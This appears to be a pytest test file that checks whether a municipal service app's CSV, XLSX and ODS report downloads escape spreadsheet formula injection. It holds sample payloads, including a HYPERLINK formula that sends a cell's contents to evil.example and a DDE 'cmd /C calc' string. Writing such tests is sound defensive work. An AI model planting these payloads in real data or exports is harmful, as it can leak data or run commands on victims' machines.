"""Every report's files (petitions, dispatch, legal consultations, 1999 calls) keep a
name that starts like a formula as text: downloaded through the report's own page and
read back as a spreadsheet program would. The names are stored where an agency,
a dispatch class or a venue keeps them; the call statistics hold no stored text, so
there a hostile row is added to the table the page makes."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Callable
from datetime import date, time

import pytest
from odf.namespaces import TABLENS
from odf.opendocument import load as load_ods
from odf.table import TableCell
from openpyxl import load_workbook

from tests.factories import taipei
from tests.petitions.factories import petition
from yankao.core import clock
from yankao.dispatch.models import TicketClass
from yankao.legal.models import Session, Venue, slot_count_for
from yankao.legal.services import venues_load

pytestmark = [pytest.mark.django_db, pytest.mark.hostile]

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B3,"詳見")'


def _petitions(monkeypatch) -> str:
    registered = petition(code="0103", received_at=taipei(2025, 2, 3))
    agency = registered.petition.item.owner_agency
    agency.name = HYPERLINK
    agency.save(update_fields=["name"])
    return HYPERLINK


def _dispatch(monkeypatch) -> str:
    TicketClass.objects.filter(code="101").update(code="@SUM(1+1)", name="-2+3")
    return "@SUM(1+1) -2+3"


def _legal(monkeypatch) -> str:
    venues_load()
    venue = Venue.objects.get(key="fengshan")
    venue.name = "+1+cmd|' /C calc'!A0"
    venue.save(update_fields=["name"])
    Session.objects.create(
        venue=venue,
        date=date(2026, 10, 13),
        starts_at=time(14),
        ends_at=time(16),
        slot_minutes=venue.slot_minutes,
        slot_count=slot_count_for(time(14), time(16), venue.slot_minutes),
        created_at=taipei(2026, 10, 1),
    )
    return venue.name


def _hotline(monkeypatch) -> str:
    from yankao.hotline import views

    hostile = '＝HYPERLINK("https://evil.example")'
    real = views.STATISTICS.figures

    def figures(user, form):
        context = dict(real(user, form))
        table = context["table"]
        context["table"] = dataclasses.replace(table, rows=[[hostile, "x", -1, None], *table.rows])
        return context

    monkeypatch.setattr(views, "STATISTICS", dataclasses.replace(views.STATISTICS, figures=figures))
    return hostile


REPORTS: dict[str, tuple[str, dict[str, str], Callable[..., str]]] = {
    "petitions": (
        "/petitions/reports/monthly/",
        {"month": "2025-02", "group_by": "agency"},
        _petitions,
    ),
    "dispatch": ("/dispatch/statistics/", {}, _dispatch),
    "legal": ("/legal/desk/counts/", {"month": "2026-10"}, _legal),
    "hotline": ("/hotline/statistics/", {}, _hotline),
}
TODAY = {"petitions": taipei(2025, 3, 10), "legal": taipei(2026, 11, 2, 9)}


def _download(client, staff, monkeypatch, report: str, kind: str) -> tuple[str, bytes]:
    url, query, store = REPORTS[report]
    with clock.frozen(TODAY.get(report, taipei(2026, 11, 26))):
        hostile = store(monkeypatch)
        client.force_login(staff.connie)
        response = client.get(url, {**query, "format": kind})
    assert response.status_code == 200
    return hostile, response.content


@pytest.mark.parametrize("report", REPORTS)
def test_a_formula_in_a_csv_is_written_after_an_apostrophe(client, staff, monkeypatch, report):
    hostile, content = _download(client, staff, monkeypatch, report, "csv")
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert f"'{hostile}" in cells
    assert hostile not in cells


@pytest.mark.parametrize("report", REPORTS)
def test_a_formula_in_an_xlsx_is_a_string_cell(client, staff, monkeypatch, report):
    hostile, content = _download(client, staff, monkeypatch, report, "xlsx")
    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
    [found] = [cell for cell in cells if cell.value == hostile]
    assert (found.data_type, found.quotePrefix) == ("s", True)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.data_type == "n" and isinstance(cell.value, int) for cell in cells)


@pytest.mark.parametrize("report", REPORTS)
def test_a_formula_in_an_ods_is_a_string_cell(client, staff, monkeypatch, report):
    hostile, content = _download(client, staff, monkeypatch, report, "ods")
    cells = load_ods(io.BytesIO(content)).spreadsheet.getElementsByType(TableCell)
    [found] = [cell for cell in cells if str(cell) == hostile]
    assert found.getAttribute("valuetype") == "string"
    assert not [cell for cell in cells if (TABLENS, "formula") in cell.attributes]
